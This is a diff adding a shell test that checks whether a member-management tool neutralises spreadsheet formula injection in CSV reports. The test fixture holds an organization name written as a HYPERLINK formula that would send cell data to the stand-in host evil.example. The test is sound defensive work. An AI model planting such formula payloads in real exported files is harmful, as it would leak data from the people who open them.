@@ -68,6 +68,22 @@ equals "$(cat "$TMP/bashrc")" "secret dotfile" "report did not write through the
 expect_rc 73 "a directory as the output refused" E report members -o "$TMP/out1"
 expect_rc 73 "an output in a missing directory refused" E report members -o "$TMP/nowhere/r.txt"
 
+# --- a name that a spreadsheet would run as a formula is shown, not run ---
+printf 'code,name,kind,parent\nBL-EVIL,"=HYPERLINK(""http://evil.example/""&A1,""点此"")",street_federation,BL\n' >"$TMP/evil.csv"
+expect_rc 0 "an organization named like a formula imports (it is only text)" E import orgs "$TMP/evil.csv"
+expect_rc 0 "report members as CSV" E report members --format csv -o "$TMP/evil-report.csv"
+contains "$TMP/evil-report.csv" "\"'=HYPERLINK(" "the formula-like name is written with a leading apostrophe"
+lacks "$TMP/evil-report.csv" ",=HYPERLINK(" "…never bare"
+$PY - "$TMP/evil-report.csv" >"$TMP/py.out" 2>&1 <<'PYEOF'
+import csv, sys
+rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig")))
+cells = [c for r in rows for c in r]
+bad = [c for c in cells if c and (c[0] in "=+@" or (c[0] == "-" and not c.lstrip("-").replace(".", "").isdigit()))]
+sys.exit(f"cells a spreadsheet would run: {bad}" if bad else 0)
+PYEOF
+if [ $? -eq 0 ]; then ok "no cell of the CSV starts like a formula"; else not_ok "no cell of the CSV starts like a formula"; diag "$TMP/py.out"; fi
+before=$(digest "$DB")
+
 # --- personal data is private: 0600 under umask 022 ---
 mkdir -p "$TMP/modes"
 E user add off1 --role officer >/dev/null
